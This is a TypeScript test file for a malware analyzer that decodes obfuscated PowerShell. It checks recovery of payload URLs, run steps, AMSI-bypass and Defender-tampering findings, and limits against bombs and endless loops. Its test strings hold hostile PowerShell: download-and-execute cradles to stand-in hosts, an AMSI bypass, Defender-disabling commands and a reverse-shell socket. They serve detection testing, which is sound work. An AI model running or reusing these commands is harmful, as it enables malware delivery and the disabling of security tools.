// The PowerShell analyzer on generated layered samples (test/generators/powershell.ts): each obfuscation
// trick must be undone down to the payload URL and the run step, layers peeled into children, and hostile
// input (a Deflate bomb, endless loops, garbage) must end in a limit or a partial result, never a hang.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cmdlineAnalyzer } from '../src/analyzers/cmdline/index.ts';
import { powershellAnalyzer } from '../src/analyzers/powershell/index.ts';
import { defaultConfig } from '../src/config.ts';
import { analyzeSubmission, type AnalysisRun } from '../src/engine/submission.ts';
import type { EngineConfig } from '../src/engine/types.ts';
import { buildReport } from '../src/verdict/report.ts';
import {
  backticks,
  base64Deflate,
  base64Gzip,
  charArray,
  charCasts,
  concatenation,
  deflateBombScript,
  emotetStyle,
  encodedLauncher,
  formatOperator,
  nestedEncoded,
  qakbotDownloader,
  reversedIndex,
  reversedRegex,
  secureStringLayer,
} from './generators/powershell.ts';

const URL_1 = 'http://files.example.test/stage2/x.dat';

async function analyze(text: string, name = 'sample.ps1', limits: Partial<EngineConfig['limits']> = {}): Promise<AnalysisRun> {
  const config = defaultConfig();
  Object.assign(config.limits, limits);
  return analyzeSubmission({ name, data: new TextEncoder().encode(text) }, { config, analyzers: [cmdlineAnalyzer, powershellAnalyzer] });
}

const urlIocs = (run: AnalysisRun) => run.iocs.filter((i) => i.type === 'url').map((i) => i.value);
const payloadUrls = (run: AnalysisRun) => run.iocs.filter((i) => i.type === 'url' && i.role === 'payload-url').map((i) => i.value);
const links = (run: AnalysisRun) => run.artifacts.filter((a) => a.relation === 'link' && a.kind === 'url').map((a) => a.name);
const ids = (run: AnalysisRun) => new Set(run.findings.map((f) => f.id));

/** The download must come out as a payload URL IOC (with its host) and a link child for the downloader. */
function assertPayload(run: AnalysisRun, url: string): void {
  assert.ok(payloadUrls(run).includes(url), `payload URL ${url} in ${JSON.stringify(urlIocs(run))}`);
  assert.ok(links(run).includes(url), `link child for ${url}`);
  assert.ok(run.iocs.some((i) => i.type === 'domain' && i.value === new URL(url).hostname), 'host IOC');
}

test('format operator: the URL is reassembled from shuffled pieces', async () => {
  const run = await analyze(`$u = ${formatOperator(URL_1)}; (New-Object Net.WebClient).DownloadString($u)`);
  assertPayload(run, URL_1);
  assert.ok(ids(run).has('powershell.obfuscation.format-operator'), `ids(run).has('powershell.obfuscation.format-operator')`);
});

test('concatenation and backticks: names and the URL rebuilt', async () => {
  const script = `$w = ${backticks('New-Object')} ${concatenation('Net.WebClient')}; $w.${backticks('DownloadFile')}(${concatenation(URL_1)}, "$env:TEMP\\a.exe"); ${backticks('Start-Process')} "$env:TEMP\\a.exe"`;
  const run = await analyze(script);
  assertPayload(run, URL_1);
  assert.ok(ids(run).has('powershell.obfuscation.backticks'), `ids(run).has('powershell.obfuscation.backticks')`);
  assert.ok(ids(run).has('powershell.obfuscation.concatenation'), `ids(run).has('powershell.obfuscation.concatenation')`);
  assert.ok(run.iocs.some((i) => i.type === 'filename' && i.value.endsWith('\\AppData\\Local\\Temp\\a.exe')), 'the output path, with %TEMP% expanded');
  assert.ok(ids(run).has('powershell.run.downloaded-file'), `ids(run).has('powershell.run.downloaded-file')`);
  assert.equal(buildReport(run).verdict, 'malicious');
});

test('char arrays and [char] casts', async () => {
  const run = await analyze(`$a = ${charArray(URL_1)}; $b = ${charCasts('DownloadString')}; (New-Object Net.WebClient).$b($a)`);
  assertPayload(run, URL_1);
  assert.ok(ids(run).has('powershell.obfuscation.char-codes'), `ids(run).has('powershell.obfuscation.char-codes')`);
});

test('reversed strings: by negative index and by RightToLeft regex', async () => {
  for (const reverse of [reversedIndex, reversedRegex]) {
    const run = await analyze(`iwr -Uri ${reverse(URL_1)} -OutFile C:\\ProgramData\\p.dll`);
    assertPayload(run, URL_1);
    assert.ok(run.iocs.some((i) => i.type === 'filename' && i.value === 'C:\\ProgramData\\p.dll'), `run.iocs.some((i) => i.type === 'filename' && i.value === 'C:\\ProgramData\\p.dll')`);
    assert.ok(ids(run).has('powershell.drop.staging-folder'), `ids(run).has('powershell.drop.staging-folder')`);
    if (reverse === reversedRegex) assert.ok(ids(run).has('powershell.obfuscation.reversal'), `ids(run).has('powershell.obfuscation.reversal')`);
  }
});

test('base64 + Deflate and base64 + GZip: the inner script becomes a decoded layer and is analysed', async () => {
  const inner = `Start-BitsTransfer -Source '${URL_1}' -Destination "$env:APPDATA\\u.dll"`;
  for (const pack of [base64Deflate, base64Gzip]) {
    const run = await analyze(pack(inner));
    const layer = run.artifacts.find((a) => a.relation === 'decoded' && a.kind === 'powershell');
    assert.ok(layer, 'the decompressed script is a child layer');
    assert.equal(layer.size, Buffer.byteLength(inner), 'the layer is the inner script exactly');
    assertPayload(run, URL_1);
    assert.ok(ids(run).has('powershell.obfuscation.compression'), `ids(run).has('powershell.obfuscation.compression')`);
    assert.ok(ids(run).has('powershell.exec.layer'), `ids(run).has('powershell.exec.layer')`);
  }
});

test('SecureString with a key is decrypted into the next layer', async () => {
  const run = await analyze(secureStringLayer(`IEX (New-Object Net.WebClient).DownloadString('${URL_1}')`));
  assertPayload(run, URL_1);
  assert.ok(ids(run).has('powershell.obfuscation.securestring'), `ids(run).has('powershell.obfuscation.securestring')`);
  assert.ok(ids(run).has('powershell.exec.download-cradle'), 'iex of a downloaded string');
});

test('rebuilt iex ($pshome, $env:comspec, $ShellId) and & ( … ) run a layer', async () => {
  const inner = `(New-Object Net.WebClient).DownloadFile('${URL_1}','C:\\Users\\Public\\z.dll')`;
  for (const iex of ['($pshome[4]+$pshome[30]+\'x\')', "($env:comspec[4,15,25]-join'')", "($ShellId[1]+$ShellId[13]+'x')", '(gcm *ke-e*)']) {
    const run = await analyze(`& ${iex} "${inner.replace(/"/g, '`"')}"`);
    assert.ok(ids(run).has('powershell.obfuscation.computed-command'), iex);
    assertPayload(run, URL_1);
  }
});

test('nine nested -enc layers are peeled one child per layer down to the URL', async () => {
  const script = `(New-Object Net.WebClient).DownloadFile('${URL_1}', "$env:TEMP\\n.dll"); rundll32 "$env:TEMP\\n.dll",Start`;
  const run = await analyze(nestedEncoded(script, 9), 'launch.txt');
  assert.equal(run.artifacts[0]!.kind, 'cmdline');
  const layers = run.artifacts.filter((a) => a.relation === 'decoded' && a.kind === 'powershell');
  assert.equal(layers.length, 9);
  assert.deepEqual(layers.map((a) => a.depth), [1, 2, 3, 4, 5, 6, 7, 8, 9]);
  assertPayload(run, URL_1);
  assert.ok(ids(run).has('cmdline.run.rundll32'), 'the run step, through the command-line analyzer');
  assert.ok(run.iocs.some((i) => i.type === 'command' && /rundll32 .*n\.dll[ ,"]+Start/i.test(i.value)), 'the rundll32 run step as a command IOC');
  assert.ok(Object.values(run.labels).includes('rundll32 ,Start'), `Object.values(run.labels).includes('rundll32 ,Start')`);
});

test('the decoded-layer limit stops the peeling and says so', async () => {
  const run = await analyze(nestedEncoded(`iwr '${URL_1}'`, 9), 'launch.txt', { maxDecodedLayers: 4 });
  assert.equal(run.artifacts.filter((a) => a.relation === 'decoded').length, 4);
  assert.ok(run.limits.some((l) => l.limit === 'maxDecodedLayers'), `run.limits.some((l) => l.limit === 'maxDecodedLayers')`);
  assert.ok(!payloadUrls(run).includes(URL_1), '!payloadUrls(run).includes(URL_1)');
});

test('a Deflate bomb hits the decoded-size cap, not the memory', async () => {
  const cap = 4 * 1024 * 1024;
  const before = process.memoryUsage().rss;
  const run = await analyze(deflateBombScript(1024), 'bomb.ps1', { maxDecodedBytes: cap });
  const grown = process.memoryUsage().rss - before;
  assert.ok(run.limits.some((l) => l.limit === 'maxDecodedBytes'), JSON.stringify(run.limits));
  const layer = run.artifacts.find((a) => a.relation === 'decoded');
  assert.ok(layer && layer.size <= cap, 'the layer is cut at the cap');
  assert.ok(grown < 512 * 1024 * 1024, `memory grew by ${grown} bytes for a 1 GiB bomb`);
});

test('a Qakbot-style URL list: every fallback URL, the saved DLL, and rundll32 with its export', async () => {
  const urls = ['http://a.example.test/k/1.dat', 'http://b.example.test/k/2.dat', 'https://198.51.100.7/k/3.dat'];
  const launcher = `cmd /c p^ow^ers^hell -w hi^dden -e^nc ${encodedLauncher(qakbotDownloader(urls, 'C:\\ProgramData\\qb.dll', 'DllRegisterServer')).split(' -enc ')[1]}`;
  const run = await analyze(launcher, 'command.txt');
  for (const url of urls.slice(0, 2)) assertPayload(run, url);
  assert.ok(payloadUrls(run).includes(urls[2]!), 'payloadUrls(run).includes(urls[2]!)');
  assert.ok(run.iocs.some((i) => i.type === 'ip' && i.value === '198.51.100.7'), `run.iocs.some((i) => i.type === 'ip' && i.value === '198.51.100.7')`);
  assert.ok(run.iocs.some((i) => i.type === 'filename' && i.value === 'C:\\ProgramData\\qb.dll'), `run.iocs.some((i) => i.type === 'filename' && i.value === 'C:\\ProgramData\\qb.dll')`);
  const found = ids(run);
  for (const id of ['cmdline.obfuscation.carets', 'cmdline.launcher.powershell-encoded', 'powershell.download.url-list', 'cmdline.run.rundll32']) assert.ok(found.has(id), id);
  const report = buildReport(run);
  assert.equal(report.verdict, 'malicious');
  for (const t of ['T1059.001', 'T1105', 'T1218.011', 'T1027.010']) assert.ok(report.attack.includes(t), t);
  assert.ok(Object.values(run.labels).includes('rundll32 ,DllRegisterServer'), `Object.values(run.labels).includes('rundll32 ,DllRegisterServer')`);
  assert.ok(Object.values(run.labels).some((l) => l.includes('3 URLs')), `Object.values(run.labels).includes('3 URLs')`);
});

test('AMSI bypass and Defender tampering are findings with evidence', async () => {
  const amsi = await analyze(`[Ref].Assembly.GetType('System.Management.Automation.'+'AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`);
  assert.ok(amsi.findings.some((f) => f.id === 'powershell.defense.amsi-bypass' && /amsi/i.test(f.evidence)), `amsi.findings.some((f) => f.id === 'powershell.defense.amsi-bypass' && /amsi/i.test(f.evidence))`);
  const defender = await analyze(`Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData`);
  const hit = defender.findings.find((f) => f.id === 'powershell.defense.defender');
  assert.ok(hit, 'hit');
  assert.deepEqual(hit.attack, ['T1562.001']);
});

test('hostile input: endless loops, deep nesting and garbage end in a result', async () => {
  const loops = await analyze(`while ($true) { $i++ }; for (;;) { sleep 1 }; do { $x = gc x } while ($x -ne 'ok'); $n = 0; while ($n -lt 1e9) { $n++ }; iwr '${URL_1}'`);
  assert.ok(loops.limits.some((l) => l.limit === 'powershellSteps'), 'the step budget stops the counting loop');
  assert.equal(loops.errors.length, 0);
  const deep = await analyze(`${'('.repeat(5000)}'x'${')'.repeat(5000)}; iwr '${URL_1}'`);
  assert.equal(deep.errors.length, 0);
  assert.ok(urlIocs(deep).includes(URL_1), 'urlIocs(deep).includes(URL_1)');
  const junk = await analyze(`$x = "unterminated; @{ [ } ) \`"; ${'$'.repeat(1000)} -f -f -join ..`);
  assert.equal(junk.errors.length, 0);
  const huge = await analyze(`$s = 'A' * 100000000; $t = $s + $s; iwr '${URL_1}'`, 'big.ps1', { maxDecodedBytes: 1024 * 1024 });
  assert.ok(huge.limits.some((l) => l.limit === 'maxDecodedBytes'), `huge.limits.some((l) => l.limit === 'maxDecodedBytes')`);
});

test('an ordinary admin script stays benign', async () => {
  const run = await analyze(
    [
      '$logs = Get-ChildItem -Path C:\\Logs -Filter *.log',
      'foreach ($f in $logs) { if ($f.Length -gt 10MB) { Compress-Archive -Path $f.FullName -DestinationPath "$($f.FullName).zip" } }',
      'Write-Host ("Archived {0} files" -f $logs.Count)',
      '$i = 0; foreach ($f in $logs) { $i++; Write-Progress -Activity ("{0} of {1}: {2}" -f $i, $logs.Count, $f.Name) }',
      '$token = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("user:" + $env:USERNAME))',
      '# docs: https://learn.microsoft.com/powershell/',
    ].join('\n'),
  );
  assert.equal(buildReport(run).verdict, 'benign', JSON.stringify(run.findings.map((f) => [f.id, f.score])));
});

test('hex strings and XOR-encoded char codes are decoded', async () => {
  const hex = Buffer.from(URL_1).toString('hex');
  const viaHex = await analyze(`$u = -join ('${hex}' -split '(..)' | ? { $_ } | % { [char][Convert]::ToInt32($_, 16) }); iwr $u`);
  assertPayload(viaHex, URL_1);
  const key = 0x37;
  const xored = Array.from(URL_1, (c) => c.charCodeAt(0) ^ key).join(',');
  const viaXor = await analyze(`$u = -join ((${xored}) | % { [char]($_ -bxor ${key}) }); (New-Object Net.WebClient).DownloadFile($u, "$env:PUBLIC\\x.dll")`);
  assertPayload(viaXor, URL_1);
  assert.ok(ids(viaXor).has('powershell.obfuscation.xor'), 'xor');
});

test('URL lists split with -split on a character class are all payload URLs', async () => {
  const urls = ['http://one.example.test/a', 'http://two.example.test/b', 'http://three.example.test/c'];
  const run = await analyze(`$l = '${urls[0]}|${urls[1]};${urls[2]}' -split '[|;,]'; foreach ($x in $l) { try { Invoke-WebRequest $x -OutFile C:\\Users\\Public\\p.dat; break } catch { } }`);
  for (const url of urls) assertPayload(run, url);
  assert.ok(ids(run).has('powershell.download.url-list'), 'url-list');
});

test('script cmdlets with attributes, redirections inside pipelines, and a reverse shell', async () => {
  const run = await analyze(
    [
      'function Get-Stage {',
      '  [CmdletBinding()]',
      '  Param ([Parameter(Position = 0, Mandatory = $True)] [String] $Url, [Parameter(Position = 1)] [Type] $Kind = [Void])',
      '  (New-Object Net.WebClient).DownloadString($Url)',
      '}',
      `$code = Get-Stage '${URL_1}'`,
      '$out = (iex $code 2>&1 | Out-String)',
      '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.9", 4444); $s = $c.GetStream()',
    ].join('\r\n'),
  );
  assert.ok(!ids(run).has('powershell.parse.incomplete'), JSON.stringify(run.findings.filter((f) => f.id === 'powershell.parse.incomplete')));
  assertPayload(run, URL_1);
  assert.ok(ids(run).has('powershell.exec.download-cradle'), 'the function result is executed');
  assert.ok(ids(run).has('powershell.c2.reverse-shell'), 'reverse shell');
  assert.ok(run.iocs.some((i) => i.type === 'ip' && i.value === '203.0.113.9' && i.role === 'c2' && i.port === 4444), 'C2 address with port');
});

test('Invoke-Obfuscation idioms: variable-name iex, [string]::Join of char codes, octal, ToString()[…]', async () => {
  const inner = `iwr '${URL_1}'`;
  const octal = Array.from(inner, (c) => c.charCodeAt(0).toString(8)).join('k');
  const samples = [
    `(GV '*mdr*').NaMe[3,11,2]-JoIn'' | % { & $_ "${inner}" }`,
    `& ((Get-Variable '*MDR*').Name[3,11,2]-join'') "${inner}"`,
    `& ($VerbosePreference.ToString()[1,3]+'X'-JOIN'') "${inner}"`,
    `.( [StRINg]::JoIN('', [char[]](105, 101, 120))) ([String]::Join('', ('${octal}' -split 'k' | ForEach-Object { [char]([convert]::ToInt16(($_.ToString()), 8)) })))`,
  ];
  for (const script of samples) {
    const run = await analyze(script);
    assertPayload(run, URL_1);
  }
});

test('a layer that repeats an earlier one is not peeled again', async () => {
  const config = defaultConfig();
  const inner = `iwr '${URL_1}'`;
  const parentText = `iex "${inner}"`;
  const ctx = { limits: config.limits, signal: new AbortController().signal } as unknown as Parameters<typeof powershellAnalyzer.analyze>[1];
  const data = new TextEncoder().encode(parentText);
  const hash = (await import('node:crypto')).createHash('sha256').update(inner).digest('hex');
  const artifact = { id: 'a3', parent: 'a2', relation: 'decoded' as const, kind: 'powershell', name: 'layer', sha256: '', size: data.length, depth: 2, data, meta: { layer: 2, ancestry: [hash] } };
  const result = await powershellAnalyzer.analyze(artifact, ctx);
  assert.equal(result.children?.filter((c) => c.kind === 'powershell').length, 0, 'no child for a layer seen above');
  assert.equal(result.facts?.repeatedLayer, true);
  const fresh = await powershellAnalyzer.analyze({ ...artifact, meta: { layer: 2, ancestry: [] } }, ctx);
  const child = fresh.children?.find((c) => c.kind === 'powershell');
  assert.deepEqual(child?.meta?.ancestry, [(await import('node:crypto')).createHash('sha256').update(parentText).digest('hex')]);
  assert.equal(child?.meta?.layer, 3);
});

test('an Emotet-style downloader: every URL of the @-split list, the saved .exe, and the run step', async () => {
  const urls = ['http://a.example.test/wp/x/', 'http://b.example.test/y/', 'https://c.example.test/z/'];
  const run = await analyze(encodedLauncher(emotetStyle(urls, '470'), '-nop -w hidden'), 'command.txt');
  for (const url of urls) assertPayload(run, url);
  assert.ok(!run.iocs.some((i) => i.type === 'url' && i.value.includes('@')), 'the list is split, not reported whole');
  assert.ok(run.iocs.some((i) => i.type === 'filename' && i.value === 'C:\\Users\\user\\470.exe'), 'the saved file');
  for (const id of ['powershell.obfuscation.computed-command', 'powershell.download.url-list', 'powershell.run.downloaded-file']) assert.ok(ids(run).has(id), id);
  assert.equal(buildReport(run).verdict, 'malicious');
});
